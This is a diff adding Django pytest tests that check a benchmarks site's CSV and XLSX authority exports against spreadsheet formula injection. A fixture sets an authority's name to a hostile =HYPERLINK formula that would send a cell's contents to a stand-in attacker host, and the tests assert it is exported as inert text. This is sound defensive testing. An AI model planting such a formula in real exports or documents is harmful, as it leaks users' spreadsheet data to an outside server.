@@ -4,6 +4,7 @@ import csv
 import io
 from decimal import Decimal
 
+import openpyxl
 import pytest
 from django.test import Client
 
@@ -187,3 +188,35 @@ def test_a_suppressed_neighbour_is_explained_not_drawn_as_nothing(client: Client
     norfolk = next(bar for bar in response.context["bars"] if bar.label == "Norfolk")
     assert norfolk.value is None and norfolk.missing == "suppressed"
     assert "No figure: suppressed" in response.content.decode()
+
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
+
+
+@pytest.fixture
+def hostile_area(lac_rate):
+    """An authority whose name a spreadsheet would run, and a negative figure."""
+    value = BenchmarkValue.objects.get(indicator=lac_rate, area__name="Derbyshire", period="2017")
+    value.area.name = HYPERLINK
+    value.area.save()
+    BenchmarkValue.objects.filter(pk=value.pk).update(value=Decimal("-0.5"))
+    return lac_rate
+
+
+def test_the_csv_export_quotes_cells_that_could_run_as_formulas(
+    client: Client, hostile_area
+) -> None:
+    response = client.get(f"/benchmarks/{hostile_area.slug}/authorities.csv", {"period": "2017"})
+    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
+    row = next(row for row in rows if row["authority_code"] == "E10000007")
+    assert row["authority"] == "'" + HYPERLINK
+    assert row["value"] == "-0.5"
+
+
+def test_the_xlsx_export_has_no_formula_and_keeps_numbers(client: Client, hostile_area) -> None:
+    response = client.get(f"/benchmarks/{hostile_area.slug}/authorities.xlsx", {"period": "2017"})
+    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
+    assert [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"] == []
+    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == "E10000007")
+    assert (row[1].value, row[1].data_type) == (HYPERLINK, "s")
+    assert (row[3].value, row[3].data_type) == (-0.5, "n")
